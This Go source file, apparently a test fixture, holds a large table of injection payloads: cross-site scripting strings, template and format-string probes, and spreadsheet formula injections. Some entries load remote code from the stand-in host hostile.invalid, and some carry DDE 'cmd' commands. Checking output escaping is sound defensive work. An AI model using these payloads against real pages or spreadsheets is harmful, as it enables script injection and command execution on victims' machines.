package hostile

// payload is a text that would do harm if a page took it for anything but text.
type payload struct {
	name, text string
	alone      bool // it works at the beginning of a field only
}

// run is what a script of the corpus does; without =, which would end an attribute for Markdown.
const run = "__hostile(1)"

// Payloads are the texts of which every field gets one each.
var payloads = []payload{
	// out of text
	{"script", "<script>" + run + "</script>", false},
	{"script capitals", "<ScRiPt >" + run + "</sCrIpT >", false},
	{"script source", "<script src=//hostile.invalid/s.js></script>", false},
	{"script slash", "<script/x>" + run + "</script>", false},
	{"script inside itself", "<scr<script>ipt>" + run + "</scr</script>ipt>", false},
	{"script unclosed", "<script>" + run + "//", false},
	{"image", "<img src=x onerror=" + run + ">", false},
	{"image unclosed", "<img src=x onerror=" + run + " ", false},
	{"image elsewhere", "<img src=http://hostile.invalid/i.png>", false},
	{"svg", "<svg/onload=" + run + ">", false},
	{"svg animate", "<svg><animate onbegin=" + run + " attributeName=x></svg>", false},
	{"svg use", "<svg><use href=http://hostile.invalid/u.svg#x /></svg>", false},
	{"math", "<math><maction xlink:href=javascript:" + run + ">x</maction></math>", false},
	{"iframe", "<iframe src=javascript:" + run + "></iframe>", false},
	{"iframe document", "<iframe srcdoc='&lt;script&gt;" + run + "&lt;/script&gt;'></iframe>", false},
	{"object", "<object data=http://hostile.invalid/o></object>", false},
	{"embed", "<embed src=http://hostile.invalid/e>", false},
	{"base", "<base href=http://hostile.invalid/>", false},
	{"refresh", "<meta http-equiv=refresh content='0;url=http://hostile.invalid/'>", false},
	{"link", "<link rel=stylesheet href=http://hostile.invalid/c.css>", false},
	{"form", "<form action=http://hostile.invalid/><input autofocus onfocus=" + run + "></form>", false},
	{"details", "<details open ontoggle=" + run + ">x</details>", false},
	{"video", "<video><source onerror=" + run + "></video>", false},
	{"body", "<body onload=" + run + ">", false},
	{"marquee", "<marquee onstart=" + run + ">x</marquee>", false},
	{"anchor", "<a href=javascript:" + run + ">click</a>", false},
	// out of an element that holds text only, or of a comment
	{"out of title", "</title><script>" + run + "</script>", false},
	{"out of textarea", "</textarea><script>" + run + "</script>", false},
	{"out of style", "</style><script>" + run + "</script>", false},
	{"out of JSON-LD", "</script><script>" + run + "</script>", false},
	{"comment", "<!--<script>", false},
	{"comment end", "--><script>" + run + "</script>", false},
	{"comment end, old", "--!><img src=x onerror=" + run + ">", false},
	{"CDATA", "<![CDATA[><script>" + run + "</script>]]>", false},
	{"processing", "<?xml-stylesheet href='http://hostile.invalid/x.xsl'?>", false},
	{"noscript", "<noscript><p title='</noscript><img src=x onerror=" + run + ">'>", false},
	{"template element", "<template><script>" + run + "</script></template>", false},
	{"plaintext", "<plaintext>", false},
	// out of an attribute
	{"double quote", `" onmouseover="` + run + `" x="`, false},
	{"double quote, autofocus", `" autofocus tabindex=1 onfocus=` + run + ` x="`, false},
	{"single quote", `' onmouseover='` + run + `' x='`, false},
	{"backtick", "` onmouseover=`" + run, false},
	{"end of tag", `"><script>` + run + `</script>`, false},
	{"end of tag, single", `'><script>` + run + `</script>`, false},
	// out of JSON, a script or CSS
	{"JSON", `","x":"</script><script>` + run + `</script>`, false},
	{"JSON line end", `\"}];` + run + `//`, false},
	{"backslash", `\u003cscript\u003e` + run + `\u003c/script\u003e`, false},
	{"script string", "';" + run + ";//", false},
	{"template string", "${" + run + "}", false},
	{"CSS expression", "x:expression(" + run + ")", false},
	{"CSS address", "background:url(http://hostile.invalid/b.png)", false},
	{"CSS import", "@import 'http://hostile.invalid/i.css';", true},
	// characters by another name
	{"entity", "&lt;script&gt;" + run + "&lt;/script&gt;", false},
	{"entity number", "&#60;img src=x onerror=" + run + "&#62;", false},
	{"entity, no semicolon", "&ltimg src=x onerror=" + run + "&gt", false},
	{"percent", "%3Cscript%3E" + run + "%3C/script%3E", false},
	{"overlong by letters", "＜script＞" + run + "＜/script＞", false},
	// languages of templates
	{"template", "{{.Site}} {{template \"x\"}} {{printf \"%s\" .}}", false},
	{"template, other", "{% include x %} ${7*7} #{7*7} <%= 7*7 %>", false},
	{"format", "%s%d%!s(x) {0} {n} {name}", false},
	// addresses
	{"javascript", "javascript:" + run, false},
	{"data", "data:text/html,<script>" + run + "</script>", false},
	{"vbscript", "vbscript:msgbox(1)", false},
	// spreadsheets
	{"formula", "=HYPERLINK(\"http://hostile.invalid/\")", true},
	{"formula plus", "+1+cmd|' /C calc'!A0", true},
	{"formula minus", "-2+3+cmd|' /C calc'!A0", true},
	{"formula at", "@SUM(1+1)", true},
	{"formula wide", "＝1+1", true},
	{"formula tab", "\t=1+1", true},
	{"formula after a separator", "x|=1+1", true},
	{"formula after a line end", "x\n=1+1", true},
	{"quote and comma", "\",=1+1,\"", true},
}
